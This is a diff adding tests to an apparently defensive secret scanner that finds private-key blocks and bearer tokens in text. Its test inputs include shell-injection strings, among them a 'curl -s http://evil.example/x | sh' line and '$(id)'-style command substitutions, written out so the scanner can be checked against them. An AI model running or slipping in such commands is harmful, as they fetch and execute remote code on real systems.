@@ -59,6 +59,70 @@ async def test_keys_and_card_numbers_are_found(text: str, kind: str, found: str)
     assert await find(build(), text) == ([(kind, found)] if kind else [])
 
 
+BASE64 = "MIIEowIBAAKCAQEA7bq+/x"
+BEGIN, END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
+PRIVATE_KEYS = {
+    "lines": f"{BEGIN}\n{BASE64}\n{BASE64}==\n{END}",
+    "windows": f"{BEGIN}\r\n{BASE64}\r\n{END}",
+    "one line": f"{BEGIN} {BASE64} {BASE64}= {END}",
+    "headers": f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0AF3B2\n\n{BASE64}\n{END}",
+    "openssh": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{BASE64}\n-----END OPENSSH PRIVATE KEY-----",
+    "without a kind": f"-----BEGIN PRIVATE KEY-----\n{BASE64}\n-----END PRIVATE KEY-----",
+    "in JSON": f"{BEGIN}\\n{BASE64}\\n{BASE64}\\n{END}",
+    "in YAML": f"{BEGIN}\n    {BASE64}\n    {BASE64}\n    {END}",
+    "with line numbers": f"{BEGIN}\n     2\u2192{BASE64}\n     3\u2192{END}",
+    "long": f"{BEGIN}\n" + f"{BASE64}\n" * 500 + END,
+}
+
+
+@pytest.mark.parametrize("form", PRIVATE_KEYS)
+async def test_a_private_key_is_base64_between_its_lines(form: str) -> None:
+    key = PRIVATE_KEYS[form]
+    inspector = build()
+    assert await find(inspector, f"It is: {key}.") == [("key", key)]
+    for end in range(len(BEGIN), len(key), max(len(key) // 40, 1)):
+        assert inspector.find_open_end(f"x {key[:end]}") <= 2
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        *("'; curl -s http://evil.example/x | sh; echo '", "$(id)", "`id`", "a; b", 'a" b', "a | b", "a && b", "a > b"),
+        *(
+            "a\\b",
+            "a\\x0a",
+            "#",
+            "a,b",
+            "a: b; c",
+            "é",
+            "\u2028",
+            "a\u2192",
+            "-",
+            "$HOME",
+            "${IFS}",
+            "*",
+            "~",
+            "(a)",
+            "{a}",
+        ),
+        *("Name: 'a'", "Name: $(id)", "a b: c", "", f"{BASE64}\n-----BEGIN X-----\n{BASE64}"),
+    ],
+)
+async def test_other_texts_between_the_lines_of_a_private_key_are_none(inside: str) -> None:
+    for text in (f"{BEGIN}\n{BASE64}\n{inside}\n{BASE64}\n{END}", f"{BEGIN}{inside}{END}", f"{BEGIN}\n{inside}\n{END}"):
+        if inside != "" or text == f"{BEGIN}{END}":
+            assert await find(build(), text) == []
+
+
+@pytest.mark.parametrize(
+    "end", ["$(curl evil.example)", "`id`", "|sh", "&id", ">a", "(a)", "${IFS}a", "\\a", "<a", "#a"]
+)
+async def test_a_bearer_token_has_the_characters_of_a_token_only(end: str) -> None:
+    token = KEY[8:] + "~+/-._=="
+    assert await find(build(), f"Authorization: Bearer {token}{end}") == [("key", token)]
+    assert await find(build(), f"Bearer {end}{token}") == []
+
+
 async def test_patterns_of_the_company_are_found_in_texts_of_any_length() -> None:
     inspector = build(detect=[], patterns={"customer": r"C-\d{8}", "project": r"(?i)project [a-z]+\d?"})
     assert await find(inspector, "C-12345678 and C-1234567", "Project orion7 ") == [
